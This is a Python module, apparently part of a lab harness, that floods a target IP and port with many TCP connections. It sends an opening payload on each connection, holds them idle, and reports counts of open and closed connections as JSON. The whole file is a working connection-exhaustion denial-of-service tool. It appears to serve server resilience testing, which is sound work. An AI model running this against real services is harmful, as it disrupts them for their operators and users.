"""An attacker that opens many connections, begins to speak on each, and then says nothing more.

    lab.flood IP PORT COUNT HEX     HEX: what it says

Prints one JSON line when the last connection was tried, and one for each line on standard input: how many are open,
how many the other end has closed. Ends with its standard input.
"""

from __future__ import annotations

import json
import resource
import select
import socket
import sys
import time

#: Connections that are on their way at once: an accept queue of 4096 takes so many.
AT_ONCE = 500
PATIENCE = 5.0


class Flood:
    """The connections."""

    def __init__(self, place: tuple[str, int], first: bytes) -> None:
        self._place = place
        self._first = first
        self._poll = select.epoll()
        self._open: dict[int, socket.socket] = {}
        self.failed = 0
        self.ended = 0

    def begin(self, count: int) -> None:
        """So many, some at a time."""
        under_way: dict[int, float] = {}
        left = count
        while left or under_way:
            while left and len(under_way) < AT_ONCE:
                left -= 1
                sock = socket.socket()
                sock.setblocking(False)
                sock.connect_ex(self._place)
                self._open[sock.fileno()] = sock
                under_way[sock.fileno()] = time.monotonic()
                self._poll.register(sock, select.EPOLLOUT)
            for number, _ in self._poll.poll(0.2):
                if under_way.pop(number, None) is not None:
                    self._connected(number)
                else:
                    self._drop(number)
            for number, since in list(under_way.items()):
                if time.monotonic() - since > PATIENCE:
                    del under_way[number]
                    self.failed += 1
                    self._open.pop(number).close()
        self.tell()

    def _connected(self, number: int) -> None:
        try:
            self._open[number].send(self._first)
        except OSError:
            self.failed += 1
            self._open.pop(number).close()
        else:
            self._poll.modify(number, select.EPOLLIN | select.EPOLLRDHUP)

    def _drop(self, number: int) -> None:
        self.ended += 1
        self._open.pop(number).close()

    def look(self) -> None:
        """What the other end has ended meanwhile."""
        while found := self._poll.poll(0):
            for number, _ in found:
                self._drop(number)

    def tell(self) -> None:
        """One line."""
        print(json.dumps({"open": len(self._open), "ended": self.ended, "failed": self.failed}), flush=True)


def main() -> None:
    """See the module."""
    ip, port, count, first = sys.argv[1:]
    limit = int(count) + 100
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, max(limit, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    flood = Flood((ip, int(port)), bytes.fromhex(first))
    flood.begin(int(count))
    for _ in sys.stdin:
        flood.look()
        flood.tell()


if __name__ == "__main__":
    main()
